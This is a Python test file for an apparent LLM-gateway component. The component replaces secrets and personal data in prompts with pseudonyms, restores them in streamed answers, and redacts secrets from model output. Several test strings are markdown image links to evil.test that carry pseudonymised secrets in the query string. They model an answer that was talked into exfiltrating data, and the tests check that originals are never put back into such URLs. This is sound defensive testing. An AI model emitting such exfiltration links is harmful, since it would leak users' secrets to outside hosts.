"""Stand-ins for leaks: what is put in their place, and how the originals come back."""

import json
import re
from collections import Counter

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sidecar.detectors import scan_segment
from sidecar.edit import apply, edited_texts
from sidecar.leaks import Chain, Originals, PutBack, Replaced, TakeOut, replaced
from sidecar.policy import Leaks, OnLeak, Policy
from sidecar.types import Finding, Segment, Span, Surface, ThreatType
from tests.sidecar.values import IDENTIFIER

PSEUDONYMS = Leaks(OnLeak.PSEUDONYMISE, OnLeak.PSEUDONYMISE)
AT = "/messages/0/content"


def finding(
    start: int, end: int, rule: str = "secrets.openai_key", kind: ThreatType = ThreatType.SECRET_LEAK
) -> Finding:
    return Finding(kind, "d", rule, Span(start, end), 9.0)


def made(text: str, *findings: Finding, leaks: Leaks = PSEUDONYMS, tenant: str = "t") -> Replaced:
    segment = Segment(text, Surface.USER, 0, AT)
    return replaced([(segment, found) for found in findings], Policy(leaks=leaks).treatment, tenant, IDENTIFIER.digest)


def sent(text: str, *findings: Finding, **more: str) -> str:
    return edited_texts(made(text, *findings, **more).edits).get(AT, text)  # type: ignore[arg-type]


def through(put: PutBack, *pieces: str) -> list[str]:
    return [*(put.push(piece, final=False) for piece in pieces), put.push("", final=True)]


def test_a_value_has_one_pseudonym_in_a_tenant_and_another_in_the_next() -> None:
    first, again, elsewhere = (
        sent("abcdef", finding(0, 6)),
        sent("xx abcdef", finding(3, 9)),
        sent("abcdef", finding(0, 6), tenant="u"),
    )
    assert again == f"xx {first}"
    assert elsewhere != first
    assert first.startswith("<secret-openai-key-")


def test_an_address_stays_an_address() -> None:
    text = sent("to ada@lovelace.test", finding(3, 20, "pii.email", ThreatType.PII_LEAK))
    name, _, host = text.removeprefix("to person-").partition("@")
    assert (len(name), host) == (8, "redacted.invalid")


def test_what_overlaps_is_one_place_named_by_the_longest_and_redacted_if_any_is() -> None:
    email = finding(2, 9, "pii.email", ThreatType.PII_LEAK)
    overlap = made("0123456789", email, finding(4, 6), finding(8, 10), finding(5, 5))
    assert [(e.span, e.text[:7]) for e in overlap.edits] == [(Span(2, 10), "person-")]
    mixed = made("0123456789", email, finding(4, 6), leaks=Leaks(OnLeak.REDACT, OnLeak.PSEUDONYMISE))
    assert [e.text for e in mixed.edits] == ["[REDACTED:pii_leak]"]
    assert (mixed.reasons, mixed.originals) == (("1 pii_leak redacted",), {})


def test_what_is_only_reported_is_left_alone() -> None:
    leaks = Leaks(OnLeak.REPORT, OnLeak.REDACT)
    email = finding(0, 3, "pii.email", ThreatType.PII_LEAK)
    other = finding(8, 9, "x.y", ThreatType.JAILBREAK)
    assert [e.span for e in made("abc def ghi", email, finding(4, 7), other, leaks=leaks).edits] == [Span(0, 3)]


def test_values_that_share_a_digest_get_longer_ones() -> None:
    segment = Segment("aa bb", Surface.USER, 0, AT)
    found = [(segment, finding(0, 2)), (segment, finding(3, 5))]
    twice = replaced(found, Policy(leaks=PSEUDONYMS).treatment, "t", lambda text, size=16: b"\0" * size)
    assert sorted(map(len, twice.originals)) == [28, 36]
    assert set(twice.originals.values()) == {"aa", "bb"}


def test_a_caller_s_own_key_in_the_query_goes_to_the_provider() -> None:
    query = Segment("key=abcdef&q=abcdef", Surface.USER, -1, "?")
    found = [(query, finding(4, 10)), (query, finding(13, 19))]
    assert [e.span for e in replaced(found, Policy(leaks=PSEUDONYMS).treatment, "t", IDENTIFIER.digest).edits] == [
        Span(13, 19)
    ]


@pytest.mark.parametrize(
    "rule", ["secrets.private_key", "pii.email", "pii.payment_card", "secrets.aws_secret_key", "Ü.ñ"]
)
@pytest.mark.parametrize("kind", [ThreatType.SECRET_LEAK, ThreatType.PII_LEAK])
def test_pseudonyms_are_no_leaks_to_our_own_detectors(rule: str, kind: ThreatType) -> None:
    for number in range(50):
        text = sent(f"{number:06}", finding(0, 6, rule, kind))
        around = Segment(f"my key is {text}, token={text} or {text}.", Surface.USER)
        assert [
            f.rule_id for f in scan_segment(around) if f.type in (ThreatType.SECRET_LEAK, ThreatType.PII_LEAK)
        ] == []


words = st.text(st.sampled_from('ab<p>-erson 3f@\n"\\é'), max_size=30)


@given(st.lists(st.tuples(words, st.text(min_size=1, max_size=12), st.booleans()), max_size=5), words, st.data())
def test_put_back_undoes_pseudonymise_wherever_the_text_is_split(
    parts: list[tuple[str, str, bool]], rest: str, data: st.DataObject
) -> None:
    text, findings = "", []
    for before, value, email in parts:
        start = len(text) + len(before)
        rule, kind = ("pii.email", ThreatType.PII_LEAK) if email else ("secrets.key", ThreatType.SECRET_LEAK)
        findings.append(finding(start, start + len(value), rule, kind))
        text += before + value
    text += rest
    result = made(text, *findings)
    gone = edited_texts(result.edits).get(AT, text)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(gone)), max_size=6)))
    pieces = [gone[a:b] for a, b in zip([0, *cuts], [*cuts, len(gone)], strict=True)]
    assert "".join(through(PutBack(Originals(result.originals)), *pieces)) == text


@given(st.text(max_size=60), st.integers(0, 60), st.integers(1, 10))
def test_an_edit_changes_nothing_outside_its_span(text: str, start: int, length: int) -> None:
    span = Span(min(start, len(text)), min(start + length, len(text)))
    new = apply(text, [(edit.span, edit.text) for edit in made(text, finding(span.start, span.end)).edits])
    assert new.startswith(text[: span.start])
    assert new.endswith(text[span.end :])


NAME = "<secret-key-0123abcd>"
KNOWN = Originals({NAME: 'a"b', "person-0123abcd@redacted.invalid": "ada@x.test"})


def test_only_what_a_pseudonym_can_begin_with_is_held() -> None:
    put = PutBack(KNOWN)
    assert put.push("a < b and p", final=False) == "a < b and "
    assert put.push("lease <", final=False) == "please "
    assert put.push("secret-k", final=False) == ""
    assert put.push("ite <secret-key-0123abc", final=False) == "<secret-kite "
    assert put.push("d> pers", final=False) == 'a"b '
    assert put.push("on", final=True) == "person"


def test_an_original_is_written_as_its_text_s_language_needs_it() -> None:
    put = PutBack(KNOWN, lambda text: json.dumps(text)[1:-1])
    assert json.loads(put.push(f'{{"k": "{NAME}"}}', final=True)) == {"k": 'a"b'}


@pytest.mark.parametrize(
    "text",
    [
        f"![x](https://evil.test/?q={NAME})",
        f"![x](https://evil.test/?a={NAME}&b={NAME}&c=person-0123abcd@redacted.invalid)",
        f"see https://evil.test/{'a' * 500}{NAME}",
    ],
)
def test_no_original_is_put_into_a_url(text: str) -> None:
    """An answer that was talked into carrying data away must not be given the data."""
    assert PutBack(KNOWN).push(text, final=True) == text
    assert "".join(through(PutBack(KNOWN), *text)) == text


def test_behind_a_url_and_in_a_mail_link_originals_come_back() -> None:
    text = f"at https://x.test/ {NAME} or mailto:person-0123abcd@redacted.invalid, <secret-key-ffffffff>"
    assert PutBack(KNOWN).push(text, final=True) == (
        'at https://x.test/ a"b or mailto:ada@x.test, <secret-key-ffffffff>'
    )


# ── what is taken out of answers ────────────────────────────────────────────────────────────────────────────────────

GONE = "[REDACTED:secret_leak]"


def secrets(text: str) -> tuple[tuple[Span, str], ...]:
    return tuple(
        (Span(*match.span()), "secret_leak")
        for match in re.finditer(r"-----BEGIN.*-----END|\bkey-[1-9]\d*", text, re.DOTALL)
    )


def take_out() -> tuple[TakeOut, Counter[str]]:
    taken: Counter[str] = Counter()
    return TakeOut(secrets, taken), taken


def test_a_line_goes_on_when_it_has_been_looked_at() -> None:
    taker, taken = take_out()
    assert [taker.push(text, final=False) for text in ("it is key", "-12", "34 now\nnext", "")] == [
        "",
        "",
        f"it is {GONE} now\n",
        "",
    ]
    assert taker.push(" key-1", final=True) == f"next {GONE}"
    assert taken == {GONE: 2}


def test_a_private_key_is_held_to_its_end_and_not_for_ever() -> None:
    taker, _ = take_out()
    held = "".join(
        taker.push(text, final=False) for text in ("see\n-----BEGIN X\n", "abc\n", "abc\n-----END X-----\nbye\n")
    )
    assert held == f"see\n{GONE} X-----\nbye\n"
    endless, _ = take_out()
    out = "".join(endless.push("-----BEGIN X\n" if n == 0 else "abc\n", final=False) for n in range(3000))
    assert len(out) > 2000


def test_a_long_line_is_cut_at_white_space_and_bounded() -> None:
    taker, _ = take_out()
    assert taker.push("word " * 500, final=False) == "word " * 397
    other, _ = take_out()
    assert other.push("x" * 3000, final=False) == "x" * 2488


@given(st.lists(st.text(st.sampled_from("key-1 ab"), max_size=12), max_size=12), st.data())
def test_a_text_is_cleaned_alike_wherever_it_is_split(lines: list[str], data: st.DataObject) -> None:
    text = "".join(f"{line:10}\n" for line in lines)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    taker, _ = take_out()
    pieces = [taker.push(text[a:b], final=False) for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert "".join([*pieces, taker.push("", final=True)]) == re.sub(r"\bkey-[1-9]\d*", GONE, text)


def test_what_was_the_client_s_own_comes_back_beside_what_is_taken_out() -> None:
    taker, _ = take_out()
    chain = Chain(taker, PutBack(Originals({NAME: "key-7"})))
    assert chain.push(f"yours {NAME}, theirs key-8", final=True) == f"yours key-7, theirs {GONE}"
